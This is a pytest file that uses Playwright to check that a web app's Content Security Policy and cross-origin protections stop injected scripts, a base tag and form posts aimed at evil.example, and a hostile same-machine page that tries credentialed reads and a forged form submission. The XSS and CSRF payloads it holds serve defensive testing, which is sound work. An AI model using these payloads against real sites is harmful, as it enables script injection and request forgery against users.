"""A real browser under attack: the content policy holds should a script ever get into a page."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from attackparts import TOKEN, Attacked, make_shipment, ship

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

pytestmark = pytest.mark.processes

_INJECTED = """<script>document.title = 'evil'</script>
<img src="x" onerror="document.title = 'evil'">
<a id="link" href="javascript:document.title = 'evil'">x</a>
<script src="data:text/javascript,document.title = 'evil'"></script>
<base href="http://evil.example/">
<form id="elsewhere" action="http://evil.example/" method="post"><button>send</button></form>"""


@pytest.fixture
def page(browser: Browser, server: Attacked) -> Iterator[Page]:
    """A page of somebody who has signed in."""
    with server.client() as client:
        assert ship(client, make_shipment("k")).status_code == 200
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(30_000)
    page.goto(f"{server.url}/sign-in")
    page.get_by_label("Token").fill(TOKEN)
    page.get_by_role("button", name="Sign in", exact=True).click()
    page.get_by_role("button", name="sign out").wait_for()
    yield page
    context.close()


def test_a_script_that_got_into_a_page_is_not_run(page: Page, server: Attacked) -> None:
    """Were a text ever not escaped, the browser would still refuse to run it, or to send a form elsewhere."""

    def inject(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{_INJECTED}</main>"))

    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.route("**/runs/k", inject)
    page.goto(f"{server.url}/runs/k")
    page.locator("#link").click()
    page.evaluate("document.querySelector('#elsewhere').requestSubmit()")
    page.wait_for_timeout(300)
    assert page.title() != "evil"
    assert page.url.startswith(server.url)
    for directive in ("script-src", "base-uri", "form-action"):
        assert any("Content Security Policy" in text and directive in text for text in refused), refused


def test_another_site_can_neither_frame_nor_read_nor_change(page: Page, server: Attacked) -> None:
    """It is even of the same site, on another port, and the person is signed in."""
    hostile = _Hostile(server)
    try:
        other = page.context.new_page()
        other.goto(hostile.url)
        other.wait_for_function("document.title.startsWith('done')", timeout=30_000)
        assert other.title() == "done: read refused"
        frame = other.frame_locator("iframe")
        assert frame.get_by_role("button", name="sign out").count() == 0
        with other.expect_navigation():
            other.locator("form button").click()
        assert "this was not sent by a page of this server" in (other.text_content("body") or "")
        other.close()
    finally:
        hostile.close()
    with server.client() as client:
        assert client.get("/api/v1/runs/k/orders").json() == {"orders": []}


class _Hostile:
    """A server of somebody else on the same machine."""

    def __init__(self, server: Attacked) -> None:
        body = f"""<!doctype html><title>waiting</title><iframe src="{server.url}/"></iframe>
<form method="post" action="{server.url}/api/v1/runs/k/orders">
<input name="kind" value="undo"><button>go</button></form>
<script>
fetch("{server.url}/api/v1/runs", {{credentials: "include"}}).then(
  answer => answer.text()).then(text => {{ document.title = "done: " + text; }},
  () => {{ document.title = "done: read refused"; }});
</script>""".encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - as it is called above.
                """Say nothing."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()
        self.url = f"http://127.0.0.1:{self._server.server_port}"

    def close(self) -> None:
        """End it."""
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()
